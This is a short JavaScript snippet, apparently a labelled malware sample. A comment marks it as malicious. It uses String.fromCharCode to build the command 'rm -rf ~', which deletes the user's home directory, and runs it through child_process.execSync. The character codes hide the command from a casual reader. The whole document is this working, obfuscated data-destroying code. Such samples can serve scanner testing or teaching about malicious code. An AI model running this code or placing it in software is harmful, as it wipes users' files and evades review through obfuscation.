// Malicious, obfuscated: the command is built with String.fromCharCode (rm -rf ~) and run with execSync.
const { execSync } = require('child_process');
execSync(String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 126));
